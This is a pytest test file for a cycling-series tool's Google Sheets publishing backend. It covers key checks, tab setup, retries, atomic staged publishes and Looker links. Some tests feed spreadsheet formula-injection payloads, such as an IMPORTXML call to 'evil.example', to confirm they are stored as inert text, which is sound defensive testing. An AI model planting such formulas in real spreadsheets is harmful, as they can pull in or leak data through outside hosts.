"""The Google Sheets backend, driven through the real gspread and google-auth code against a fake Sheets API v4.

Assertions are on what the fake stored (values, notes, validation, protection, gids) and on its request log.
"""

from __future__ import annotations

import json
import os
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pandas as pd
import pytest
from typer.testing import CliRunner

from tdz.cli import app
from tdz.demo import ensure_demo
from tdz.ingest.archive import Archive
from tdz.ingest.parse import parse_archive
from tdz.publish.looker import (
    DOC_PATH,
    create_report_url,
    data_dictionary,
    with_dictionary,
)
from tdz.publish.tables import (
    ORGANISER_TABS,
    OUTPUT_TABLES,
    Table,
    conform,
    output_tables_for,
)
from tdz.publish.workbook import TabNameClash
from tdz.publish.workbook.sheets import SheetPublishError, SheetsWorkbook
from tdz.publish.workbook.sheets_auth import check_sheet
from tdz.publish.workbook.sheets_publish import STAGING_PREFIX
from tdz.retry import RetryPolicy
from tdz.scoring import score_season
from tdz.scoring.organiser import read_overrides
from tdz.season import load_season
from tdz.settings import Settings
from tests.fakes.sheets_api import FakeSheetsAPI

EMAIL = "tdz-publisher@club-series.iam.gserviceaccount.com"
WRITES = ("batchUpdate", "values.batchUpdate", "values.update")
FAST = RetryPolicy(max_retries=3, backoff_base_seconds=0.001, backoff_max_seconds=0.01)
ORGANISER = list(ORGANISER_TABS.values())
OUTPUTS = output_tables_for("points")


@pytest.fixture(scope="module")
def api() -> Iterator[FakeSheetsAPI]:
    with FakeSheetsAPI() as fake:
        yield fake


@pytest.fixture(scope="module")
def key(api: FakeSheetsAPI) -> dict[str, str]:
    return api.new_key(EMAIL)


@pytest.fixture
def sheet_id(api: FakeSheetsAPI) -> str:
    sid = "1" + uuid.uuid4().hex
    api.create_spreadsheet(sid, editors=(EMAIL,))
    api.clear_log()
    api.clear_faults()
    return sid


def settings_for(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str, **extra: object) -> Settings:
    return Settings(_env_file=None, sheet_id=sheet_id, google_service_account_json=json.dumps(key),
                    sheets_api_url=api.url, **extra)


def workbook(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> SheetsWorkbook:
    return SheetsWorkbook(settings_for(api, key, sheet_id), retry=FAST)


def frame(table: Table, rows: int, names: list[str] | None = None) -> pd.DataFrame:
    """`rows` rows of plausible values for every column of `table` (rider names from `names` when given)."""
    make = {
        "string": lambda col, i: f"{col}-{i}",
        "int": lambda col, i: i + 1,
        "float": lambda col, i: 600.25 + i,
        "seconds": lambda col, i: 1350.65 + i,
        "bool": lambda col, i: i % 2 == 0,
        "datetime": lambda col, i: pd.Timestamp("2026-01-12T18:00:00Z") + pd.Timedelta(days=i),
    }
    data = {c.name: [make[c.type](c.name, i) for i in range(rows)] for c in table.columns}
    if names and "rider_name" in data:
        data["rider_name"] = [names[i % len(names)] for i in range(rows)]
    return conform(table, pd.DataFrame(data))


def season_tables(rows: int, names: list[str] | None = None) -> dict[str, pd.DataFrame]:
    tables = {t.name: frame(t, rows, names) for t in OUTPUTS if t.name != "about"}
    tables["about"] = pd.DataFrame({"key": ["season_id", "as_of"], "value": ["ctt-2026", f"run with {rows} rows"]})
    return tables


def run_reading(wb: SheetsWorkbook) -> dict[str, list[list[str]]]:
    wb.ensure_organiser_tabs(ORGANISER)
    return wb.read_organiser_tabs(ORGANISER)


def run(wb: SheetsWorkbook, tables: dict[str, pd.DataFrame]) -> dict[str, list[list[str]]]:
    """One pipeline run's worth of Sheet calls: structure, organiser read, publish."""
    grids = run_reading(wb)
    wb.publish(tables)
    return grids


def kinds(api: FakeSheetsAPI) -> list[str]:
    return [e.kind for e in api.calls() if e.kind != "token"]


# --- check -------------------------------------------------------------------------------------------------------


def test_check_passes_and_lists_missing_organiser_tabs(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    result = check_sheet(settings_for(api, key, sheet_id))
    assert result.ok, result.problems
    assert result.service_account == EMAIL
    assert result.missing_organiser_tabs == list(ORGANISER_TABS)


def test_check_names_each_fault(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str, tmp_path: Path) -> None:
    not_found = check_sheet(settings_for(api, key, "no-such-sheet"))
    assert not_found.problems == [
        "Sheet no-such-sheet not found: check TDZ_SHEET_ID (the Sheet's id or its full URL)"]

    stranger = "1" + uuid.uuid4().hex
    api.create_spreadsheet(stranger)
    assert f"share the Sheet with {EMAIL} as Editor" in check_sheet(settings_for(api, key, stranger)).problems[0]

    viewer_only = "1" + uuid.uuid4().hex
    api.create_spreadsheet(viewer_only, viewers=(EMAIL,))
    assert "as Editor" in check_sheet(settings_for(api, key, viewer_only)).problems[0]

    garbled = tmp_path / "key.json"
    garbled.write_text("{not json", encoding="utf-8")
    result = check_sheet(Settings(_env_file=None, sheet_id=sheet_id, google_service_account_file=garbled,
                                  sheets_api_url=api.url))
    assert result.problems[0].startswith(f"bad key: {garbled} is not JSON")

    broken_pem = dict(key, private_key="-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n")
    result = check_sheet(Settings(_env_file=None, sheet_id=sheet_id, sheets_api_url=api.url,
                                  google_service_account_json=json.dumps(broken_pem)))
    assert result.problems[0].startswith(f"bad key: the private_key of {EMAIL} cannot be read")

    missing = check_sheet(Settings(_env_file=None, sheet_id=sheet_id, sheets_api_url=api.url,
                                   google_service_account_file=tmp_path / "absent.json"))
    assert missing.problems[0].startswith("bad key: cannot read the service-account key file")


def test_check_reports_a_revoked_key(api: FakeSheetsAPI, sheet_id: str) -> None:
    email = "revoked@club-series.iam.gserviceaccount.com"
    old = api.new_key(email)
    api.new_key(email)  # a new key replaces the old one in the console
    api.spreadsheets[sheet_id].editors.add(email)
    problems = check_sheet(settings_for(api, old, sheet_id)).problems
    assert problems[0].startswith(f"bad key: Google refused the key of {email}")
    assert "Invalid JWT Signature" in problems[0]


# --- structure ---------------------------------------------------------------------------------------------------


def test_init_builds_structure_once(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    created = workbook(api, key, sheet_id).init_sheet(OUTPUTS)
    assert created == [*ORGANISER_TABS, *(t.name for t in OUTPUTS)]
    assert kinds(api) == ["get", "batchUpdate"]

    for tab in ORGANISER:
        sheet = api.sheet(sheet_id, tab.name)
        assert sheet.frozen == 1
        assert [sheet.cells[(0, i)]["v"] for i in range(len(tab.columns))] == tab.header
        assert [sheet.cells[(0, i)]["note"].split(" One of:")[0] for i in range(len(tab.columns))] == [
            c.meaning for c in tab.columns]
        assert sheet.cells[(5, 0)]["numberFormat"] == "TEXT"
        for name, choices in tab.choices.items():
            rule = sheet.validation[(1, tab.header.index(name))]
            assert [v["userEnteredValue"] for v in rule["condition"]["values"]] == list(choices)
        assert not sheet.protected
    for table in OUTPUTS:
        sheet = api.sheet(sheet_id, table.name)
        assert sheet.frozen == 1
        assert [p["warningOnly"] for p in sheet.protected] == [True]
        assert api.values(sheet_id, table.name) == [table.names]

    api.clear_log()
    again = workbook(api, key, sheet_id)
    assert again.init_sheet(OUTPUTS) == []
    assert again.ensure_organiser_tabs(ORGANISER) == []
    assert kinds(api) == ["get"]
    titles = [s.title for s in api.spreadsheets[sheet_id].sheets]
    assert len(titles) == len(set(titles)) == 1 + len(ORGANISER) + len(OUTPUTS)


def test_structure_fills_only_what_is_missing(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    """An organiser tab made by hand keeps its rows; only its missing frozen header is added."""
    api.spreadsheets[sheet_id].sheets[0].title = "DQ"
    api.type_into(sheet_id, "DQ", 0, 0, "rider_id")
    api.type_into(sheet_id, "DQ", 1, 0, "12345")
    created = workbook(api, key, sheet_id).ensure_organiser_tabs(ORGANISER)
    assert "DQ" not in created
    dq = api.sheet(sheet_id, "DQ")
    assert dq.frozen == 1 and dq.sheet_id == 0
    assert api.values(sheet_id, "DQ") == [["rider_id"], [12345.0]]


def test_output_tab_named_like_an_organiser_tab_is_refused_before_any_write(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    wb = workbook(api, key, sheet_id)
    with pytest.raises(TabNameClash, match="ignore case"):
        wb.publish({"dq": frame(OUTPUT_TABLES["problems"], 2)})
    assert not api.calls(*WRITES)


# --- runs ----------------------------------------------------------------------------------------------------------


def test_a_run_costs_one_metadata_read_one_batch_read_and_few_writes(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    tables = season_tables(40)
    run(workbook(api, key, sheet_id), tables)
    first = kinds(api)
    assert first.count("get") == 1 and first.count("values.batchGet") == 1
    assert sum(k in WRITES for k in first) <= 3

    api.clear_log()
    wb = workbook(api, key, sheet_id)
    run(wb, tables)
    assert kinds(api) == ["get", "values.batchGet"]
    assert wb.calls.writes == 0

    api.clear_log()
    run(workbook(api, key, sheet_id), season_tables(41))
    assert kinds(api) == ["get", "values.batchGet", "batchUpdate"]


def test_publish_without_a_prior_read_reads_the_hash_once(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    workbook(api, key, sheet_id).publish(season_tables(3))
    api.clear_log()
    report = workbook(api, key, sheet_id).publish(season_tables(3))
    assert kinds(api) == ["get", "values.batchGet"]
    assert report.tabs_unchanged == list(season_tables(3)) and report.write_calls == 0


def test_organiser_edits_survive_reruns_and_ids_keep_leading_zeros(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    run(workbook(api, key, sheet_id), season_tables(5))
    api.type_into(sheet_id, "DQ", 1, 0, "0071234")
    api.type_into(sheet_id, "DQ", 1, 3, "drafting")
    api.type_into(sheet_id, "Manual results", 1, 0, "4455")
    api.type_into(sheet_id, "Manual results", 1, 2, "41:23.5")
    api.type_into(sheet_id, "Handicaps", 3, 2, "90")
    for rows in (6, 7, 7):
        grids = run(workbook(api, key, sheet_id), season_tables(rows))
    assert grids["DQ"][1] == ["0071234", "", "", "drafting", ""]
    assert grids["Manual results"][1][:3] == ["4455", "", "41:23.5"]
    assert grids["Handicaps"][1:4] == [["", "", ""], ["", "", ""], ["", "", "90"]]
    assert grids["Events"] == [ORGANISER_TABS["Events"].header]


def test_formula_injection_lands_as_text(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    hostile = ['=IMPORTXML("http://evil.example","//a")', "+1", "-x", "@x", "=1+1"]
    workbook(api, key, sheet_id).publish(season_tables(5, hostile))
    standings = api.sheet(sheet_id, "standings")
    column = OUTPUT_TABLES["standings"].names.index("rider_name")
    stored = [standings.cells[(r, column)] for r in range(1, 6)]
    assert [c["v"] for c in stored] == hostile
    assert not any("f" in c for c in stored)
    place = OUTPUT_TABLES["standings"].names.index("place")
    assert api.values(sheet_id, "standings")[1][place] == 1.0  # numbers stay numbers


def test_gids_are_stable_and_a_shrinking_tab_is_cleared_past_its_end(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    run(workbook(api, key, sheet_id), season_tables(30))
    gids = {s.title: s.sheet_id for s in api.spreadsheets[sheet_id].sheets}
    run(workbook(api, key, sheet_id), season_tables(3))
    run(workbook(api, key, sheet_id), season_tables(12))
    run(workbook(api, key, sheet_id), season_tables(2))
    assert {s.title: s.sheet_id for s in api.spreadsheets[sheet_id].sheets} == gids
    efforts = api.values(sheet_id, "efforts")
    assert len(efforts) == 3 and efforts[0] == OUTPUT_TABLES["efforts"].names
    assert api.sheet(sheet_id, "efforts").rows == 3
    assert not [k for k in api.sheet(sheet_id, "efforts").cells if k[0] >= 3]


def test_the_demo_time_season_publishes_within_the_call_budget(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str, tmp_path: Path) -> None:
    """The issue's bar: ≤ 1 metadata read + 1 batch read + ≤ 3 writes per run, then 0 writes on a re-run."""
    season = load_season(Path(__file__).resolve().parent.parent / "seasons" / "kwcc-tdz-2026.toml")
    demo = ensure_demo(season, tmp_path)
    workbook(api, key, sheet_id).ensure_organiser_tabs(ORGANISER, seed=demo.organiser_seed)
    archive = Archive(tmp_path, season.id)
    parsed = parse_archive(archive)
    for expected_writes in (1, 0):
        api.clear_log()
        wb = workbook(api, key, sheet_id)
        grids = run_reading(wb)
        overrides, problems = read_overrides(season, grids, known_riders=set(parsed.efforts["rider_id"].tolist()))
        scored = score_season(season, parsed, overrides, now=datetime(2026, 9, 1, tzinfo=UTC), problems=problems,
                              input_hash=archive.input_hash())
        wb.publish(scored.tables)
        assert kinds(api) == ["get", "values.batchGet"] + ["batchUpdate"] * expected_writes
    assert len(api.values(sheet_id, "gc")) == len(scored.tables["gc"]) + 1


# --- faults --------------------------------------------------------------------------------------------------------


def test_429_then_success(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    wb = workbook(api, key, sheet_id)
    api.fail("batchUpdate", 429, times=2)
    report = wb.publish(season_tables(4))
    assert [e.status for e in api.calls("batchUpdate")] == [429, 429, 200]
    assert report.write_calls == 3 and wb.calls.retries == 2
    assert len(api.values(sheet_id, "standings")) == 5


def test_a_failed_publish_keeps_the_old_tabs_says_so_and_the_next_run_publishes(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str, tmp_path: Path) -> None:
    run(workbook(api, key, sheet_id), season_tables(4))
    before = {t.name: api.values(sheet_id, t.name) for t in OUTPUTS}

    api.fail("batchUpdate", 503, times=99)
    with pytest.raises(SheetPublishError, match="Google Sheets API error 503") as caught:
        run(workbook(api, key, sheet_id), season_tables(9, ["=HYPERLINK(1)"]))
    assert len(str(caught.value).splitlines()) == 1
    assert str(caught.value).endswith("; no tab is ever half-written (every output tab is switched in one request), "
                                      "so the Sheet shows a publish whole; the next run publishes again")
    assert [e.status for e in api.calls("batchUpdate")][-4:] == [503] * 4  # first try + 3 retries, then stop
    assert {t.name: api.values(sheet_id, t.name) for t in OUTPUTS} == before

    api.clear_faults()
    report = workbook(api, key, sheet_id).publish(season_tables(9, ["=HYPERLINK(1)"]))  # the next run
    assert "standings" in report.tabs_written
    assert len(api.values(sheet_id, "standings")) == 10


def test_a_request_refused_mid_batch_changes_nothing(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    run(workbook(api, key, sheet_id), season_tables(3))
    before = {s.title: api.values(sheet_id, s.title) for s in api.spreadsheets[sheet_id].sheets}
    book = api.spreadsheets[sheet_id]
    efforts_growth = (21 - 4) * len(OUTPUT_TABLES["efforts"].columns)
    book.cell_limit = sum(s.rows * s.cols for s in book.sheets) + efforts_growth  # the first tab fits, the next not
    with pytest.raises(SheetPublishError, match=r"requests\[[1-9]\d*\]\.updateSheetProperties: .* limit"):
        workbook(api, key, sheet_id).publish(season_tables(20))
    assert {s.title: api.values(sheet_id, s.title) for s in api.spreadsheets[sheet_id].sheets} == before


def staging(api: FakeSheetsAPI, sheet_id: str) -> list[str]:
    return [s.title for s in api.spreadsheets[sheet_id].sheets if s.title.startswith(STAGING_PREFIX)]


def big(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str, max_request_bytes: int = 60_000) -> SheetsWorkbook:
    return SheetsWorkbook(settings_for(api, key, sheet_id), retry=FAST, max_request_bytes=max_request_bytes)


def test_a_publish_too_big_for_one_request_is_staged_then_switched_in_one(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    """Google refuses bodies over 10 MiB: a big publish writes RAW values into hidden staging tabs, then one
    batchUpdate resizes, clears and pastes every real tab and deletes the staging tabs. The Sheet ends up cell
    for cell as after the one-request publish of the same tables, with every tab's gid kept."""
    oracle = "1" + uuid.uuid4().hex
    api.create_spreadsheet(oracle, editors=(EMAIL,))
    run(workbook(api, key, sheet_id), season_tables(30))
    gids = {s.title: s.sheet_id for s in api.spreadsheets[sheet_id].sheets}
    for rows in (60, 40):
        api.clear_log()
        big(api, key, sheet_id).publish(season_tables(rows, ["=SUM(A:A)", "+1"]))
        writes = api.calls(*WRITES)
        kinds = [e.kind for e in writes]  # add the staging tabs, their values (as many calls as fit), switch
        assert kinds[0] == kinds[-1] == "batchUpdate" and set(kinds[1:-1]) == {"values.batchUpdate"}
        added = [r["addSheet"]["properties"] for r in writes[0].body["requests"]]
        assert all(p["hidden"] and p["title"].startswith(STAGING_PREFIX) for p in added)
        assert all(e.body["valueInputOption"] == "RAW" for e in api.calls("values.batchUpdate"))
        assert {name for r in writes[-1].body["requests"] for name in r} >= {"copyPaste", "deleteSheet", "updateCells"}
        workbook(api, key, oracle).publish(season_tables(rows, ["=SUM(A:A)", "+1"]))
        for table in OUTPUTS:
            assert api.values(sheet_id, table.name) == api.values(oracle, table.name), table.name
            assert api.sheet(sheet_id, table.name).rows == api.sheet(oracle, table.name).rows
        assert staging(api, sheet_id) == []
    assert {s.title: s.sheet_id for s in api.spreadsheets[sheet_id].sheets} == gids
    column = OUTPUT_TABLES["standings"].names.index("rider_name")
    assert not any("f" in c for (_, col), c in api.sheet(sheet_id, "standings").cells.items() if col == column)
    api.clear_log()
    big(api, key, sheet_id).publish(season_tables(40, ["=SUM(A:A)", "+1"]))
    assert not api.calls(*WRITES)

    api.clear_log()
    big(api, key, sheet_id, max_request_bytes=20_000).publish(season_tables(61))
    workbook(api, key, oracle).publish(season_tables(61))
    ours = [e for e in api.calls(*WRITES) if sheet_id in e.path]
    assert [e.kind for e in ours].count("values.batchUpdate") > 1
    assert all(e.size <= 20_000 for e in ours if e.kind == "values.batchUpdate")
    assert {t.name: api.values(sheet_id, t.name) for t in OUTPUTS} == {t.name: api.values(oracle, t.name) for t in OUTPUTS}


@pytest.mark.parametrize("failing", ["values.batchUpdate", "switch"])
def test_a_big_publish_failing_before_its_switch_shows_nothing_new_and_the_next_run_tidies_up(
        api: FakeSheetsAPI, key: dict[str, str], sheet_id: str, failing: str) -> None:
    run(workbook(api, key, sheet_id), season_tables(5))
    before = {t.name: api.values(sheet_id, t.name) for t in OUTPUTS}
    if failing == "switch":
        api.fail("batchUpdate", 400, times=1, after=1)  # staging added, values written, the switch refused
    else:
        api.fail("values.batchUpdate", 500, times=99)
    with pytest.raises(SheetPublishError):
        big(api, key, sheet_id, max_request_bytes=30_000).publish(season_tables(50))
    assert {t.name: api.values(sheet_id, t.name) for t in OUTPUTS} == before  # readers saw nothing new
    assert len(staging(api, sheet_id)) == len(OUTPUTS)  # hidden, left behind
    api.clear_faults()
    big(api, key, sheet_id, max_request_bytes=30_000).publish(season_tables(50))
    assert staging(api, sheet_id) == [] and len(api.values(sheet_id, "standings")) == 51


# --- Looker --------------------------------------------------------------------------------------------------------


def test_looker_link_points_at_every_output_tab_by_gid(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    run(workbook(api, key, sheet_id), season_tables(2))
    gids = workbook(api, key, sheet_id).output_tab_gids(OUTPUT_TABLES)
    assert gids == {t.name: api.sheet(sheet_id, t.name).sheet_id for t in OUTPUTS}

    query = parse_qs(urlsplit(create_report_url(sheet_id, gids, template_report_id="tmpl-1")).query)
    assert query["c.reportId"] == ["tmpl-1"]
    for name, gid in gids.items():
        assert query[f"ds.{name}.connector"] == ["googleSheets"]
        assert query[f"ds.{name}.spreadsheetId"] == [sheet_id]
        assert query[f"ds.{name}.worksheetId"] == [str(gid)]
        assert query[f"ds.{name}.hasHeader"] == ["true"]

    plain = urlsplit(create_report_url(sheet_id, gids))
    assert (plain.scheme, plain.netloc, plain.path) == ("https", "lookerstudio.google.com", "/reporting/create")
    assert parse_qs(plain.query)["ds.worksheetId"] == [str(gids["standings"])]


def test_looker_doc_matches_tables() -> None:
    doc = DOC_PATH.read_text(encoding="utf-8")
    assert with_dictionary(doc) == doc, "docs/data-dictionary.md is out of date: run `uv run python -m tdz.publish.looker`"
    for table in OUTPUT_TABLES.values():
        assert f"### `{table.name}`" in data_dictionary()
        for column in table.columns:
            assert f"| `{column.name}` | {column.type} |" in doc


# --- CLI -----------------------------------------------------------------------------------------------------------


def test_cli_check_init_and_looker_link(api: FakeSheetsAPI, key: dict[str, str], sheet_id: str) -> None:
    env = {"TDZ_SHEET_ID": f"https://docs.google.com/spreadsheets/d/{sheet_id}/edit#gid=0",
           "TDZ_GOOGLE_SERVICE_ACCOUNT_JSON": json.dumps(key), "TDZ_SHEETS_API_URL": api.url}
    runner = CliRunner()
    checked = runner.invoke(app, ["sheet", "check"], env=env)
    assert checked.exit_code == 0 and EMAIL in checked.output
    made = runner.invoke(app, ["sheet", "init"], env=env)
    assert made.exit_code == 0 and "Manual results" in made.output
    assert {t.name for t in ORGANISER} <= {s.title for s in api.spreadsheets[sheet_id].sheets}

    workbook(api, key, sheet_id).publish(season_tables(2))
    linked = runner.invoke(app, ["looker-link"], env=env)
    assert linked.exit_code == 0
    assert f"ds.worksheetId={api.sheet(sheet_id, 'standings').sheet_id}" in linked.stdout

    refused = runner.invoke(app, ["sheet", "check"], env=dict(env, TDZ_SHEET_ID="missing"))
    assert refused.exit_code == 1 and "Sheet missing not found" in refused.output


# --- live ----------------------------------------------------------------------------------------------------------


@pytest.mark.live
@pytest.mark.skipif(not os.environ.get("TDZ_LIVE_SHEET_ID") or not (
    os.environ.get("TDZ_GOOGLE_SERVICE_ACCOUNT_FILE") or os.environ.get("TDZ_GOOGLE_SERVICE_ACCOUNT_JSON")),
    reason="set TDZ_LIVE_SHEET_ID and a service-account key to run against a real Sheet")
def test_live_sheet_publishes_then_skips_an_unchanged_publish() -> None:
    settings = Settings(sheet_id=os.environ["TDZ_LIVE_SHEET_ID"], sheets_api_url="https://sheets.googleapis.com")
    assert check_sheet(settings).ok, check_sheet(settings).problems
    tables = season_tables(3, ["=IMPORTXML(1)", "+1"])
    first = SheetsWorkbook(settings)
    run(first, tables)
    gids = first.output_tab_gids(OUTPUT_TABLES)
    second = SheetsWorkbook(settings)
    run(second, tables)
    assert second.calls.writes == 0
    assert second.output_tab_gids(OUTPUT_TABLES) == gids

    # The staged publish on the real API: RAW values into hidden tabs, copyPaste over the real ones, gids kept.
    staged = SheetsWorkbook(settings, max_request_bytes=20_000)
    bigger = season_tables(120, ["=IMPORTXML(1)", "+1", "007"])
    staged.publish(bigger)
    assert staged.calls.writes >= 3 and staged.output_tab_gids(OUTPUT_TABLES) == gids
    assert not [t for t in SheetsWorkbook(settings).tabs() if t.startswith(STAGING_PREFIX)]
    column = OUTPUT_TABLES["standings"].names.index("rider_name")
    reply = staged._http.values_batch_get(settings.sheet_id, ["standings!A1:ZZ4"],
                                          params={"valueRenderOption": "UNFORMATTED_VALUE"})
    assert [r[column] for r in reply["valueRanges"][0]["values"][1:4]] == ["=IMPORTXML(1)", "+1", "007"]
